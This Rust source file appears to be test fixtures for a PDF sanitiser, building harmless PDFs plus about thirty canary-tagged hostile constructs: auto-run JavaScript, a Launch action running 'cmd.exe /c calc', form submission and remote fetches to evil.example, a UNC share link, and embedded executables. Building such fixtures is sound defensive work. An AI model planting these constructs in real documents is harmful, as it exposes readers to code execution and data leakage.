//! PDFs that do something, and some that do nothing.

use lopdf::{Dictionary, Document, Object, Stream, StringFormat, dictionary};

use crate::random::Random;

/// Stands in everything hostile: where it is found, something was let through.
pub const CANARY: &str = "EVILCANARY";

fn text(words: &str) -> Object {
    Object::string_literal(format!("{CANARY} {words}"))
}

fn script() -> Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => text("app.alert(1)") }
}

/// A harmless page of text, a picture, and a drawing.
pub fn benign(random: &mut Random) -> Document {
    let mut document = Document::with_version("1.6");
    let tree = document.new_object_id();
    let font = document
        .add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let pixels: Vec<u8> = (0..16 * 16 * 3).map(|_| random.below(256) as u8).collect();
    let picture = document.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => 16, "Height" => 16, "ColorSpace" => "DeviceRGB", "BitsPerComponent" => 8 },
        pixels,
    ));
    let form = document.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 50.into(), 50.into()] },
        b"1 0 0 rg 5 5 40 40 re f".to_vec(),
    ));
    let mut kids: Vec<Object> = Vec::new();
    for page in 0..=random.below(2) {
        let content = format!(
            "BT /F1 24 Tf 40 120 Td (Page {page} of {}) Tj ET q 60 0 0 60 20 20 cm /Im1 Do Q q 1 0 0 1 100 20 cm /Fm1 Do Q 0 0 1 RG 3 w 10 10 180 180 re S",
            random.below(1000)
        );
        let content = document.add_object(Stream::new(dictionary! {}, content.into_bytes()));
        kids.push(document.add_object(dictionary! {
            "Type" => "Page", "Parent" => tree, "Contents" => content, "MediaBox" => vec![0.into(), 0.into(), 200.into(), 200.into()],
            "Rotate" => 90 * random.below(4) as i64,
            "Resources" => dictionary! { "Font" => dictionary! { "F1" => font }, "XObject" => dictionary! { "Im1" => picture, "Fm1" => form } },
        }).into());
    }
    let count = kids.len() as i64;
    document.objects.insert(tree, dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => count }.into());
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => tree });
    document.trailer.set("Root", catalog);
    document
}

fn catalog(document: &mut Document) -> &mut Dictionary {
    document.catalog_mut().unwrap()
}

fn page(document: &mut Document) -> &mut Dictionary {
    let id = document.page_iter().next().unwrap();
    document.get_dictionary_mut(id).unwrap()
}

fn file(document: &mut Document) -> Object {
    let content = document.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        format!("MZ {CANARY}").into_bytes(),
    ));
    document.add_object(dictionary! { "Type" => "Filespec", "F" => text("a.exe"), "EF" => dictionary! { "F" => content } }).into()
}

fn remote() -> Dictionary {
    dictionary! { "Type" => "Filespec", "FS" => "URL", "F" => text("http://evil.example/x") }
}

fn annotation(document: &mut Document, mut annotation: Dictionary) {
    annotation.set("Type", "Annot");
    annotation.set("Rect", vec![Object::from(20), 20.into(), 90.into(), 50.into()]);
    if document.objects.len().is_multiple_of(2) {
        let look = document.add_object(Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 10.into(), 10.into()],
            "OPI" => dictionary! { "1.3" => remote() }, "Ref" => dictionary! { "F" => remote(), "Page" => 0 } },
            b"0 1 0 rg 0 0 10 10 re f".to_vec(),
        ));
        annotation.set("AP", dictionary! { "N" => look });
    }
    let annotation = document.add_object(annotation);
    page(document).set("Annots", vec![annotation.into()]);
}

fn linked(action: Dictionary) -> Dictionary {
    dictionary! { "Subtype" => "Link", "A" => action }
}

/// Something hostile that is put into a document.
pub type Construct = fn(&mut Document);

pub const CONSTRUCTS: &[(&str, Construct)] = &[
    ("open-action", |d| catalog(d).set("OpenAction", script())),
    ("catalog-aa", |d| catalog(d).set("AA", dictionary! { "WC" => script(), "DS" => script() })),
    ("page-aa", |d| page(d).set("AA", dictionary! { "O" => script() })),
    ("names-script", |d| {
        catalog(d).set(
            "Names",
            dictionary! { "JavaScript" => dictionary! { "Names" => vec![text("x"), script().into()] } },
        )
    }),
    ("script-stream", |d| {
        let code = d.add_object(Stream::new(dictionary! {}, format!("{CANARY} app.alert(1)").into_bytes()));
        catalog(d).set("OpenAction", dictionary! { "S" => "JavaScript", "JS" => code });
    }),
    ("launch", |d| {
        catalog(d).set("OpenAction", dictionary! { "S" => "Launch", "F" => text("cmd.exe"), "Win" => dictionary! { "F" => text("cmd.exe"), "P" => text("/c calc") } })
    }),
    ("uri", |d| annotation(d, linked(dictionary! { "S" => "URI", "URI" => text("http://evil.example") }))),
    ("submit", |d| annotation(d, linked(dictionary! { "S" => "SubmitForm", "F" => remote(), "Flags" => 4 }))),
    ("import", |d| annotation(d, linked(dictionary! { "S" => "ImportData", "F" => remote() }))),
    ("goto-r", |d| {
        annotation(
            d,
            linked(
                dictionary! { "S" => "GoToR", "F" => text("\\\\\\\\evil\\\\share"), "D" => vec![0.into(), "Fit".into()] },
            ),
        )
    }),
    ("goto-e", |d| {
        annotation(
            d,
            linked(dictionary! { "S" => "GoToE", "F" => remote(), "T" => dictionary! { "R" => "C" } }),
        )
    }),
    ("thread", |d| annotation(d, linked(dictionary! { "S" => "Thread", "F" => remote(), "D" => 0 }))),
    ("rendition", |d| {
        annotation(
            d,
            dictionary! { "Subtype" => "Screen", "A" => dictionary! { "S" => "Rendition", "JS" => text("x"), "R" => dictionary! { "S" => "MR", "C" => dictionary! { "S" => "MCD", "D" => remote() } } } },
        )
    }),
    ("movie", |d| {
        annotation(
            d,
            dictionary! { "Subtype" => "Movie", "Movie" => dictionary! { "F" => remote() }, "A" => true },
        )
    }),
    ("sound", |d| {
        let sound = d.add_object(Stream::new(
            dictionary! { "Type" => "Sound", "R" => 8000 },
            CANARY.as_bytes().to_vec(),
        ));
        annotation(d, dictionary! { "Subtype" => "Sound", "Sound" => sound });
    }),
    ("rich-media", |d| {
        let file = file(d);
        annotation(
            d,
            dictionary! { "Subtype" => "RichMedia", "RichMediaContent" => dictionary! { "Assets" => dictionary! { "Names" => vec![text("a.swf"), file] } }, "RichMediaSettings" => dictionary! { "Activation" => dictionary! { "Condition" => "PO" } } },
        );
    }),
    ("three-d", |d| {
        let model = d.add_object(Stream::new(
            dictionary! { "Type" => "3D", "Subtype" => "U3D", "OnInstantiate" => text("x") },
            CANARY.as_bytes().to_vec(),
        ));
        annotation(d, dictionary! { "Subtype" => "3D", "3DD" => model });
    }),
    ("embedded", |d| {
        let file = file(d);
        catalog(d).set(
            "Names",
            dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![text("a"), file] } },
        );
    }),
    ("attachment", |d| {
        let file = file(d);
        annotation(d, dictionary! { "Subtype" => "FileAttachment", "FS" => file });
    }),
    ("associated", |d| {
        let file = file(d);
        catalog(d).set("AF", vec![file.clone()]);
        page(d).set("AF", vec![file]);
    }),
    ("xfa", |d| {
        let form = d.add_object(Stream::new(
            dictionary! {},
            format!("<xdp><script>{CANARY}</script></xdp>").into_bytes(),
        ));
        catalog(d).set("AcroForm", dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => form });
    }),
    ("field", |d| {
        let field = d.add_object(dictionary! { "FT" => "Tx", "T" => text("f"), "AA" => dictionary! { "K" => script(), "F" => script(), "C" => script() } });
        catalog(d)
            .set("AcroForm", dictionary! { "Fields" => vec![field.into()], "CO" => vec![field.into()] });
        annotation(
            d,
            dictionary! { "Subtype" => "Widget", "FT" => "Tx", "Parent" => field, "MK" => dictionary! { "CA" => text("x") } },
        );
    }),
    ("button", |d| {
        annotation(
            d,
            dictionary! { "Subtype" => "Widget", "FT" => "Btn", "A" => dictionary! { "S" => "ResetForm", "Next" => script() } },
        )
    }),
    ("external-stream", |d| {
        let stream = d.add_object(Stream::new(
            dictionary! { "F" => remote(), "FFilter" => "FlateDecode" },
            b"q Q".to_vec(),
        ));
        let id = d.page_iter().next().unwrap();
        let resources = dictionary! { "XObject" => dictionary! { "X" => stream } };
        d.get_dictionary_mut(id).unwrap().set("Resources", resources);
    }),
    ("postscript", |d| {
        let ps = d.add_object(Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "PS" },
            format!("({CANARY}) run").into_bytes(),
        ));
        page(d).set("Resources", dictionary! { "XObject" => dictionary! { "Im1" => ps } });
    }),
    ("alternates", |d| {
        let picture = d.add_object(Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => 1, "Height" => 1, "ColorSpace" => "DeviceGray", "BitsPerComponent" => 8,
            "Alternates" => vec![dictionary! { "Image" => remote() }.into()], "OPI" => dictionary! { "2.0" => remote() }, "Metadata" => text("m") },
            vec![9],
        ));
        page(d).set("Resources", dictionary! { "XObject" => dictionary! { "Im1" => picture } });
    }),
    ("outline", |d| {
        let item = d.add_object(dictionary! { "Title" => text("t"), "A" => script() });
        catalog(d).set("Outlines", dictionary! { "First" => item, "Last" => item, "Count" => 1 });
    }),
    ("base-uri", |d| catalog(d).set("URI", dictionary! { "Base" => text("http://evil.example/") })),
    ("metadata", |d| {
        let meta = d.add_object(Stream::new(
            dictionary! { "Type" => "Metadata", "Subtype" => "XML" },
            CANARY.as_bytes().to_vec(),
        ));
        catalog(d).set("Metadata", meta);
        let info = d.add_object(dictionary! { "Title" => text("t") });
        d.trailer.set("Info", info);
    }),
    ("private", |d| {
        page(d).set("PieceInfo", dictionary! { "Evil" => dictionary! { "Private" => text("x") } });
        page(d).set("Thumb", remote());
        catalog(d).set("Extensions", dictionary! { "EVIL" => dictionary! { "X" => script() } });
        catalog(d)
            .set("Requirements", vec![dictionary! { "S" => "EnableJavaScripts", "RH" => script() }.into()]);
    }),
    ("layers", |d| {
        let layer = d.add_object(dictionary! { "Type" => "OCG", "Name" => "Layer", "Usage" => dictionary! { "CreatorInfo" => dictionary! { "Creator" => text("x") } } });
        catalog(d).set("OCProperties", dictionary! { "OCGs" => vec![layer.into()], "D" => dictionary! { "ON" => vec![layer.into()], "AS" => vec![script().into()] } });
    }),
    ("structure", |d| {
        let file = file(d);
        let element = d.add_object(
            dictionary! { "Type" => "StructElem", "S" => "P", "A" => script(), "AF" => vec![file] },
        );
        catalog(d).set("StructTreeRoot", dictionary! { "Type" => "StructTreeRoot", "K" => element });
    }),
    ("resources", |d| {
        let page = page(d);
        let resources = page.get_mut(b"Resources").unwrap().as_dict_mut().unwrap();
        resources.set("Properties", dictionary! { "P" => dictionary! { "Type" => "OCMD", "VE" => vec![script().into()] }, "Q" => script() });
        resources.set(
            "ExtGState",
            dictionary! { "G" => dictionary! { "HTP" => script(), "CA" => 1, "TR" => script() } },
        );
        resources.set("ColorSpace", dictionary! { "C" => vec!["DeviceN".into(), vec!["X".into()].into(), "DeviceGray".into(), script().into(), script().into()] });
    }),
];

/// A filled-in field that shows what was written into it.
pub fn filled_in() -> Vec<u8> {
    let mut document = benign(&mut Random(7));
    let font = document
        .add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let look = document.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 140.into(), 20.into()],
        "Resources" => dictionary! { "Font" => dictionary! { "H" => font } } },
        b"BT /H 14 Tf 2 4 Td (Yamada Hanako) Tj ET".to_vec(),
    ));
    let widget = document.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "T" => Object::String(b"name".to_vec(), StringFormat::Literal),
        "V" => Object::string_literal("Yamada Hanako"), "Rect" => vec![30.into(), 150.into(), 170.into(), 170.into()],
        "AP" => dictionary! { "N" => look }, "F" => 4
    });
    page(&mut document).set("Annots", vec![widget.into()]);
    catalog(&mut document).set("AcroForm", dictionary! { "Fields" => vec![widget.into()] });
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).unwrap();
    bytes
}
